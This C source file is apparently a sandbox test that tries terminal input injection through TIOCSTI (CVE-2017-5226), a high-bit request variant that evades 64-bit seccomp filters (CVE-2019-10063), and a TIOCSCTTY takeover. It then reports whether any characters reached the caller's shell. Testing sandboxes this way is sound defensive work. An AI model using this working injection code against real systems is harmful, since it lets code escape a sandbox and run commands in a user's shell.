/* Attack: push input into the terminal on fd 0 (bwrap CVE-2017-5226), as
 * code in the sandbox would, so the caller's shell runs it after the
 * sandbox exits.  Tries TIOCSTI, TIOCSTI with high bits set in the 64-bit
 * request (CVE-2019-10063: a filter comparing all 64 bits misses it, the
 * kernel truncates to 32), and taking the terminal as its controlling one
 * first (TIOCSCTTY).  Prints one line per try; exits 1 when any character
 * was pushed, 0 when every try was refused.
 *
 *   tiocsti STRING */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int push(const char *what, unsigned long req, const char *s)
{
	size_t n = 0;
	for (; s[n]; n++) {
		/* the raw syscall: glibc's ioctl() takes the request as unsigned
		 * long too, but say so explicitly for the high-bits variant */
		if (syscall(SYS_ioctl, 0, req, &s[n]) < 0)
			break;
	}
	if (n == 0) {
		printf("%s: refused (%s)\n", what, strerror(errno));
		return 0;
	}
	printf("%s: PUSHED %zu characters\n", what, n);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: tiocsti STRING\n");
		return 2;
	}
	int pushed = 0;
	pushed |= push("TIOCSTI", TIOCSTI, argv[1]);
	pushed |= push("TIOCSTI|1<<32", (1UL << 32) | TIOCSTI, argv[1]);
	if (ioctl(0, TIOCSCTTY, 0) == 0)
		printf("TIOCSCTTY: TOOK the terminal\n");
	else
		printf("TIOCSCTTY: refused (%s)\n", strerror(errno));
	pushed |= push("TIOCSTI after TIOCSCTTY", TIOCSTI, argv[1]);
	return pushed;
}
